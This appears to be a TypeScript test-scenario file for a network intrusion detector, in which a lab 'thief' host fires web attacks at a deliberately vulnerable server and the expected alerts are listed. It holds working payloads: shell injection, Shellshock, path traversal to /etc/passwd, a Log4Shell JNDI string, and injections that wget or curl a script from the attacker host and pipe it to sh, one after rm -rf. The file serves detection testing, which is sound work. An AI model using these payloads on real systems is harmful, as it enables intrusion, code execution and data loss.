import type { Host } from '../network.ts'
import type { Scenario } from '../scenario.ts'
import { serveFiles, serveHoles } from '../servers.ts'

const asks = (from: Host, url: string, ...words: string[]) =>
  from.run('curl', ['-s', '-m', '10', '-o', '/dev/null', ...words, url])

export const webAttacks: readonly Scenario[] = [
  {
    name: 'abnormal-process-injected-order',
    story: 'A stranger puts `;id` into a form that hands it to the shell, and is told who the server is (curl).',
    packages: [],
    expects: ['abnormal-process 198.51.100.66 → 192.168.10.5'],
    async run({ host: { thief, server } }) {
      await serveHoles(server)
      await asks(thief, `http://${server.address}/ping.php?host=127.0.0.1%3Bid`)
    },
  },
  {
    name: 'abnormal-process-shellshock',
    story: 'A stranger sends a function to a script of the web server, which runs it (curl, CVE-2014-6271).',
    packages: [],
    expects: ['abnormal-process 198.51.100.66 → 192.168.10.5'],
    async run({ host: { thief, server } }) {
      await serveHoles(server)
      await asks(thief, `http://${server.address}/cgi-bin/status`, '-A', '() { :; }; echo; /usr/bin/id')
    },
  },
  {
    name: 'abnormal-process-traversal',
    story: 'A stranger climbs out of the download folder to the list of accounts (curl).',
    packages: [],
    expects: ['abnormal-process 198.51.100.66 → 192.168.10.5'],
    async run({ host: { thief, server } }) {
      await serveHoles(server)
      await asks(thief, `http://${server.address}/download?file=../../../../etc/passwd`, '--path-as-is')
    },
  },
  {
    name: 'abnormal-process-log4shell',
    story: 'A stranger makes the server call a directory of his with a line for its log (curl, CVE-2021-44228).',
    packages: ['netcat-openbsd'],
    expects: ['abnormal-process 198.51.100.66 → 192.168.10.5'],
    async run({ host: { thief, server, crook } }) {
      await crook.serve(1389, 'nc', ['-lk', '1389'])
      await serveHoles(server, 80, crook.address)
      await asks(thief, `http://${server.address}/login`, '-A', `\${jndi:ldap://${crook.address}:1389/Exploit}`)
    },
  },
  {
    name: 'abnormal-process-fetched-program',
    story: 'A stranger orders the server to fetch a script from him, and it does (curl).',
    packages: [],
    expects: ['abnormal-process 198.51.100.66 → 192.168.10.5', 'malware-download 192.168.10.5 → 198.51.100.66'],
    async run(network) {
      const { thief, server } = network.host
      await serveHoles(server)
      await serveFiles(network, thief, { 'x.sh': '#!/bin/sh\nid\n' })
      const order = encodeURIComponent(`127.0.0.1;curl http://${thief.address}/x.sh|sh`)
      await asks(thief, `http://${server.address}/ping.php?host=${order}`)
      await asks(server, `http://${thief.address}/x.sh`)
    },
  },
  {
    name: 'abnormal-process-sqlmap',
    story: 'A stranger lets sqlmap look for holes in a search form, and finds none.',
    packages: ['sqlmap'],
    expects: ['abnormal-process 198.51.100.66 → 192.168.10.5'],
    async run({ host: { thief, server } }) {
      await serveHoles(server)
      const words = [
        '--batch',
        '--level',
        '1',
        '--flush-session',
        '--disable-coloring',
        '-u',
        `http://${server.address}/search?q=ika`,
      ]
      await thief.run('sqlmap', words, { timeoutMs: 60_000 })
    },
  },
  {
    name: 'abnormal-process-tried-in-vain',
    story: 'A robot tries four old holes at a server that has none of them; each is refused (curl).',
    packages: [],
    expects: ['abnormal-process 198.51.100.66 → 192.168.10.5'],
    async run({ host: { thief, server } }) {
      await serveHoles(server)
      const at = `http://${server.address}`
      await asks(thief, `${at}/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh`, '--path-as-is', '-d', 'echo;id')
      await asks(thief, `${at}/shell?cd+/tmp;rm+-rf+*;wget+http://${thief.address}/jaws;sh+/tmp/jaws`)
      await asks(
        thief,
        `${at}/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=wget+http://${thief.address}/m+-O+/tmp/n;sh+n`,
      )
      await asks(
        thief,
        `${at}/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id`,
        '-g',
      )
    },
  },
]
